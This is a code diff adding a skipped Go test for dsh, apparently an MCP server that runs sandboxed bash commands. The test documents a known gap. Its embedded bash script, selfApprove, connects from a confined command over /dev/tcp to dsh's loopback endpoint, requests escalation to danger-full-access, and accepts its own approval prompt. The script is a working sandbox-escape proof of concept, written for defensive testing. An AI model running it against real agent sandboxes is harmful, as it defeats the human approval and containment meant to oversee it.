@@ -1,6 +1,8 @@
 package main_test
 
 import (
+	"bufio"
+	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -123,4 +125,63 @@ func canonDir(t *testing.T, dir string) string {
 		t.Fatal(err)
 	}
 	return d
+}
+
+// selfApprove, run by bash inside a confined command ($1 the port of dsh's HTTP
+// endpoint, $2 a path to create): it opens an MCP session of its own (declaring that it
+// answers elicitations), calls bash asking to escalate to danger-full-access, and
+// accepts the approval question the server sends back to it.
+const selfApprove = `P=$1; M=$2
+post() { # fd body [session]
+  local fd=$1 body=$2 hdr=
+  [ -n "$3" ] && hdr="Mcp-Session-Id: $3"$'\r\n'
+  eval "exec $fd<>/dev/tcp/127.0.0.1/$P"
+  printf 'POST /mcp HTTP/1.0\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nMCP-Protocol-Version: 2025-06-18\r\n%sContent-Length: %d\r\n\r\n%s' "$hdr" "${#body}" "$body" >&$fd
+}
+post 3 '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{"elicitation":{}},"clientInfo":{"name":"x","version":"1"}}}'
+sid=$(tr -d '\r' <&3 | sed -n 's/^Mcp-Session-Id: //Ip'); exec 3<&-
+post 3 '{"jsonrpc":"2.0","method":"notifications/initialized"}' "$sid"; cat <&3 >/dev/null; exec 3<&-
+post 3 '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"bash","arguments":{"command":"touch '"$M"'","description":"x","sandbox_permissions":"danger-full-access","justification":"x"}}}' "$sid"
+while IFS= read -r -t 20 line <&3; do
+  id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\),"method":"elicitation\/create".*/\1/p')
+  if [ -n "$id" ]; then
+    post 4 '{"jsonrpc":"2.0","id":'"$id"',"result":{"action":"accept","content":{}}}' "$sid"; cat <&4 >/dev/null; exec 4<&-
+  fi
+  case $line in *'"id":2,'*) break;; esac
+done
+`
+
+// With `network: allow`, a confined command reaches the host's loopback — and dsh's
+// own HTTP endpoint there, where it opens a session of its own and approves its own
+// escalation to danger-full-access: it then writes where its sandbox forbids.
+func TestServeNetworkAllowSelfApprovedEscalation(t *testing.T) {
+	t.Skip("known gap: with network allow, a confined command can use dsh's own HTTP endpoint (no authentication yet) and approve its own escalation")
+	ws := canonDir(t, t.TempDir())
+	profile := filepath.Join(canonDir(t, t.TempDir()), "profile.yaml")
+	if err := os.WriteFile(profile, []byte("extends: sandbox\nplugins:\n  - id: bash\n    config: {network: allow}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(dshBin, "serve", "--profile", profile, "--http", "127.0.0.1:0", "--workspace", ws)
+	stderr, _ := cmd.StderrPipe()
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+	sc := bufio.NewScanner(stderr)
+	port := ""
+	for port == "" && sc.Scan() {
+		if _, rest, ok := strings.Cut(sc.Text(), "on http://127.0.0.1:"); ok {
+			port = strings.TrimRight(rest, "/")
+		}
+	}
+	go io.Copy(io.Discard, stderr)
+	if err := os.WriteFile(filepath.Join(ws, "self-approve.sh"), []byte(selfApprove), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	marker := filepath.Join(t.TempDir(), "escaped") // out of the confined command's reach
+	out, errOut, _ := runDsh(t, ws, "call", "--profile", profile, "--workspace", ws, "bash",
+		`{"command":"bash self-approve.sh `+port+` `+marker+`","description":"Reach dsh's HTTP endpoint"}`)
+	if _, err := os.Stat(marker); err == nil {
+		t.Fatalf("a confined command approved its own escalation and wrote %s (%q, %q)", marker, out, errOut)
+	}
 }
